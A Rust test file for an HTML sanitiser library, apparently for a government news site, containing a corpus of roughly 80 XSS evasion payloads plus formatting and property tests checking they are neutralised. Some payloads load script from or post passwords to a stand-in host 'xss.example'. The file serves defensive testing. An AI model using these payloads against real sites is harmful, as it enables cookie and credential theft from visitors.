//! XSS corpus (in the style of the OWASP XSS filter evasion cheat sheet), legitimate
//! formatting that must survive, and property tests.

use proptest::prelude::*;
use sinergi_richtext::{clean_paste, excerpt, plain_text, sanitize, slugify};

const PAYLOADS: &[&str] = &[
    // Script tags
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/xss src=\"https://xss.example/xss.js\"></script>",
    "<<script>alert(\"XSS\");//<</script>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(document.cookie)</script>",
    "</title><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    // Event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=\"/a.png\" onload=alert(1) alt=\"x\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert('XSS')>",
    "<p onclick=\"alert(1)\" onmouseover=alert(2)>klik</p>",
    "<a href=\"/x\" onmouseover=\"alert(1)\">x</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    // javascript: URLs with tricks
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<img src=\"jav&#x0D;ascript:alert(1)\">",
    // data: URLs
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    // Embedding
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"https://xss.example/x.swf\">",
    "<applet code=\"x\"></applet>",
    // Styles
    "<style>@import 'https://xss.example/x.css';</style>",
    "<div style=\"width: expression(alert(1));\">x</div>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<span class=\"x\" style=\"behavior: url(x.htc)\">x</span>",
    "<link rel=stylesheet href=\"https://xss.example/x.css\">",
    // MathML / SVG namespace tricks
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // Broken tags and comments
    "<img \"\"\"><script>alert(\"XSS\")</script>\">",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- <!-- nested --> <script>alert(1)</script> -->",
    "<!--[if gte IE 4]><script>alert('XSS');</script><![endif]-->",
    "<p>a<!--b--!>c<script>alert(1)</script></p>",
    "<img/src=x/onerror=alert(1)>",
    "<a/href=\"javascript:alert(1)\">x</a>",
    "<a href=\"/\"\" onclick=alert(1)//\">x</a>",
    // Attribute injection via quotes
    "<a title='\"><script>alert(1)</script>' href=\"/x\">x</a>",
    "<img alt=\"\" onerror=alert(1) \" src=\"/a.png\">",
    "<img alt='x\" onerror=\"alert(1)' src=/a.png>",
    // Page-level hijacks
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"https://xss.example/\"><a href=\"/x\">x</a>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<form action=\"https://xss.example/steal\"><input name=p type=password></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=data:text/html,<script>alert(1)</script>\">",
    // Misc
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<td background=\"javascript:alert(1)\">",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1)>click",
    "<a href=\"https://example.go.id\" target=\"_blank\" rel=\"opener\">x</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
];

/// One tag of canonical output: name and attributes (values entity-decoded).
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut out = Vec::new();
    let b = html.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'<' {
            i += 1;
            continue;
        }
        let mut j = i + 1;
        while j < b.len() && b[j] != b'>' && !b[j].is_ascii_whitespace() {
            j += 1;
        }
        let name = html[i + 1..j].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            while j < b.len() && b[j].is_ascii_whitespace() {
                j += 1;
            }
            if j >= b.len() || b[j] == b'>' {
                break;
            }
            let s = j;
            while j < b.len() && b[j] != b'=' && b[j] != b'>' && !b[j].is_ascii_whitespace() {
                j += 1;
            }
            let attr = html[s..j].to_ascii_lowercase();
            let mut value = String::new();
            if j < b.len() && b[j] == b'=' {
                assert_eq!(b.get(j + 1), Some(&b'"'), "unquoted attribute in {html}");
                let vs = j + 2;
                let ve = html[vs..].find('"').map_or(b.len(), |p| vs + p);
                value = html[vs..ve]
                    .replace("&quot;", "\"")
                    .replace("&lt;", "<")
                    .replace("&gt;", ">")
                    .replace("&nbsp;", "\u{a0}")
                    .replace("&amp;", "&");
                j = ve + 1;
            }
            attrs.push((attr, value));
        }
        out.push((name, attrs));
        i = j + 1;
    }
    out
}

const ALLOWED_TAGS: &[&str] = &[
    "p",
    "br",
    "strong",
    "em",
    "u",
    "s",
    "h2",
    "h3",
    "h4",
    "ul",
    "ol",
    "li",
    "blockquote",
    "a",
    "img",
    "figure",
    "figcaption",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "hr",
    "sub",
    "sup",
    "code",
    "pre",
];

/// Asserts that `out` (sanitiser output) is safe to put on a page.
fn assert_safe(input: &str, out: &str) {
    let lower = out.to_ascii_lowercase();
    assert!(!lower.contains("<script"), "{input:?} -> {out:?}");
    for (name, attrs) in tags(out) {
        let bare = name.trim_start_matches('/');
        assert!(
            ALLOWED_TAGS.contains(&bare),
            "tag {name} in {input:?} -> {out:?}"
        );
        for (attr, value) in attrs {
            assert!(
                !attr.starts_with("on"),
                "event handler {attr} in {input:?} -> {out:?}"
            );
            let allowed: &[&str] = match bare {
                "a" => &["href", "title", "rel"],
                "img" => &["src", "alt", "width", "height"],
                _ => &[],
            };
            assert!(
                allowed.contains(&attr.as_str()),
                "attribute {attr} on {name} in {input:?} -> {out:?}"
            );
            if attr == "href" || attr == "src" {
                // Browsers ignore these characters inside a scheme.
                let squeezed: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_ascii_lowercase();
                for bad in ["javascript:", "vbscript:", "data:"] {
                    assert!(
                        !squeezed.starts_with(bad),
                        "{bad} URL in {input:?} -> {out:?}"
                    );
                }
                // A URL has a scheme when it starts with ALPHA *(ALPHA / DIGIT / "+-.") ":"
                // (WHATWG URL); anything else is relative.
                let scheme = squeezed.split_once(':').map(|(s, _)| s).filter(|s| {
                    s.starts_with(|c: char| c.is_ascii_alphabetic())
                        && s.chars()
                            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
                });
                let scheme_ok = matches!(scheme, None | Some("http" | "https" | "mailto"));
                assert!(scheme_ok, "URL {value:?} in {input:?} -> {out:?}");
            }
            if bare == "a" && attr == "rel" {
                assert_eq!(value, "noopener noreferrer nofollow");
            }
        }
    }
}

#[test]
fn corpus_is_large_enough() {
    assert!(PAYLOADS.len() >= 40, "{}", PAYLOADS.len());
}

#[test]
fn xss_payloads_are_neutralised() {
    for payload in PAYLOADS {
        let out = sanitize(payload);
        assert_safe(payload, &out);
        assert!(!out.to_ascii_lowercase().contains("alert(1)</script"));
    }
}

#[test]
fn xss_payloads_through_clean_paste() {
    for payload in PAYLOADS {
        let out = clean_paste(payload);
        assert_safe(payload, &out);
        assert_eq!(sanitize(&out), out, "clean_paste output not canonical");
    }
}

#[test]
fn xss_payloads_wrapped_in_content() {
    for payload in PAYLOADS {
        let input =
            format!("<p>Siaran <b>pers</b> {payload} selesai.</p><ul><li>{payload}</li></ul>");
        assert_safe(&input, &sanitize(&input));
    }
}

#[test]
fn sanitize_is_idempotent_on_corpus() {
    for payload in PAYLOADS {
        let once = sanitize(payload);
        assert_eq!(sanitize(&once), once, "{payload:?}");
    }
}

#[test]
fn plain_text_of_payloads_has_no_script_text() {
    for payload in PAYLOADS {
        let text = plain_text(payload);
        assert!(
            !text.contains("alert(1)</script>"),
            "{payload:?} -> {text:?}"
        );
    }
}

#[test]
fn formatting_survives() {
    assert_eq!(
        sanitize(
            "<p>Ini <b>tebal</b>, <strong>kuat</strong>, <i>miring</i> dan <em>tekanan</em>.</p>"
        ),
        "<p>Ini <strong>tebal</strong>, <strong>kuat</strong>, <em>miring</em> dan <em>tekanan</em>.</p>"
    );
    assert_eq!(
        sanitize("<ul><li>Satu</li><li>Dua</li></ul><ol><li>A</li></ol>"),
        "<ul><li>Satu</li><li>Dua</li></ul><ol><li>A</li></ol>"
    );
    assert_eq!(
        sanitize("<h1>A</h1><h2>B</h2><h3>C</h3><h4>D</h4><h5>E</h5><h6>F</h6>"),
        "<h2>A</h2><h2>B</h2><h3>C</h3><h4>D</h4><h4>E</h4><h4>F</h4>"
    );
    assert_eq!(
        sanitize(
            "<blockquote><p>Kutipan</p></blockquote><hr><p>H<sub>2</sub>O, x<sup>2</sup>, <u>garis</u>, <s>coret</s>, <code>kode</code></p><pre>a\n  b</pre>"
        ),
        "<blockquote><p>Kutipan</p></blockquote><hr><p>H<sub>2</sub>O, x<sup>2</sup>, <u>garis</u>, <s>coret</s>, <code>kode</code></p><pre>a\n  b</pre>"
    );
}

#[test]
fn links_get_rel_and_keep_allowed_schemes() {
    assert_eq!(
        sanitize(
            r#"<a href="https://jatengprov.go.id/berita" title="Portal" target="_blank" class="x">Portal</a>"#
        ),
        r#"<a href="https://jatengprov.go.id/berita" title="Portal" rel="noopener noreferrer nofollow">Portal</a>"#
    );
    assert_eq!(
        sanitize(
            r#"<a href="mailto:humas@example.go.id">Humas</a> <a href="/berita/1">Relatif</a> <a href="http://example.go.id">http</a>"#
        ),
        r#"<a href="mailto:humas@example.go.id" rel="noopener noreferrer nofollow">Humas</a> <a href="/berita/1" rel="noopener noreferrer nofollow">Relatif</a> <a href="http://example.go.id" rel="noopener noreferrer nofollow">http</a>"#
    );
    assert_eq!(
        sanitize(r#"<a href="ftp://example.go.id/x">ftp</a>"#),
        "ftp",
        "a link whose href is removed is unwrapped"
    );
}

#[test]
fn images_keep_alt_and_safe_src() {
    assert_eq!(
        sanitize(
            r#"<figure><img src="/media/2026/foto.jpg" alt="Gubernur meninjau lokasi" width="640" height="480" style="x" onerror="y"><figcaption>Foto: Humas</figcaption></figure>"#
        ),
        r#"<figure><img src="/media/2026/foto.jpg" alt="Gubernur meninjau lokasi" width="640" height="480"><figcaption>Foto: Humas</figcaption></figure>"#
    );
    assert_eq!(
        sanitize(r#"<img src="https://cdn.example.go.id/a.png" alt="A">"#),
        r#"<img src="https://cdn.example.go.id/a.png" alt="A">"#
    );
    for bad in [
        "http://example.go.id/a.png",
        "//evil.example/a.png",
        "foto.jpg",
        "file:///C:/Users/x/image001.png",
    ] {
        assert_eq!(
            sanitize(&format!(r#"<img src="{bad}" alt="A">"#)),
            "",
            "{bad}"
        );
    }
}

#[test]
fn tables_lose_attributes() {
    assert_eq!(
        sanitize(
            r#"<table border="1" style="x"><thead><tr><th colspan="2">Nama</th></tr></thead><tbody><tr><td class="c">A</td></tr></tbody></table>"#
        ),
        "<table><thead><tr><th>Nama</th></tr></thead><tbody><tr><td>A</td></tr></tbody></table>"
    );
}

#[test]
fn text_is_escaped_and_entities_kept() {
    assert_eq!(
        sanitize("<p>1 &lt; 2 &amp;&amp; \"kutip\" Rp&nbsp;5</p>"),
        "<p>1 &lt; 2 &amp;&amp; \"kutip\" Rp&nbsp;5</p>"
    );
    assert_eq!(sanitize("teks biasa"), "teks biasa");
    assert_eq!(sanitize(""), "");
}

#[test]
fn nested_headings_converge() {
    // A disallowed wrapper between two headings used to make the output re-parse
    // differently; sanitize iterates to a fixed point.
    let input = "<h2><span><h3>x</h3></span></h2><p><marquee><p>y</p></marquee></p>";
    let once = sanitize(input);
    assert_eq!(sanitize(&once), once);
}

/// HTML-ish strings built from interesting pieces.
fn htmlish() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "<",
        ">",
        "/",
        "\"",
        "'",
        "=",
        "&",
        "&amp;",
        "&#x6A;",
        "&nbsp;",
        " ",
        "\n",
        "\t",
        "x",
        "kata",
        "javascript:",
        "data:",
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<i>",
        "</i>",
        "<h1>",
        "</h1>",
        "<h2>",
        "<h3>",
        "</h3>",
        "<h6>",
        "<div>",
        "</div>",
        "<span>",
        "</span>",
        "<ul>",
        "<li>",
        "</li>",
        "</ul>",
        "<table>",
        "<tr>",
        "<td>",
        "</table>",
        "<a href=",
        "<a href=\"/x\">",
        "</a>",
        "<img src=",
        "<img src=\"/a.png\" alt=\"a\">",
        "onerror=",
        "<script>",
        "</script>",
        "<style>",
        "<svg>",
        "<math>",
        "<mtext>",
        "<marquee>",
        "<!--",
        "-->",
        "<![if x]>",
        "<![endif]>",
        "<pre>",
        "</pre>",
        "<br>",
        "<o:p>",
        "<xml>",
        "<form>",
        "<template>",
        "<noscript>",
        "<title>",
        "<select>",
        "<option>",
    ]);
    prop::collection::vec(pieces, 0..40).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn sanitize_is_idempotent_on_arbitrary_strings(s in any::<String>()) {
        let once = sanitize(&s);
        prop_assert_eq!(sanitize(&once), once);
    }

    #[test]
    fn sanitize_is_idempotent_and_safe_on_htmlish(s in htmlish()) {
        let once = sanitize(&s);
        assert_safe(&s, &once);
        prop_assert_eq!(sanitize(&once), once.clone());
        let pasted = clean_paste(&s);
        assert_safe(&s, &pasted);
        prop_assert_eq!(sanitize(&pasted), pasted);
    }

    #[test]
    fn text_helpers_never_panic(s in htmlish(), max in 0usize..200, t in any::<String>()) {
        let _ = plain_text(&s);
        let e = excerpt(&s, max);
        prop_assert!(e.chars().count() <= max);
        let slug = slugify(&t);
        prop_assert!(!slug.is_empty() && slug.len() <= 80);
        prop_assert!(slug.bytes().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-'));
        prop_assert!(!slug.starts_with('-') && !slug.ends_with('-'));
    }
}
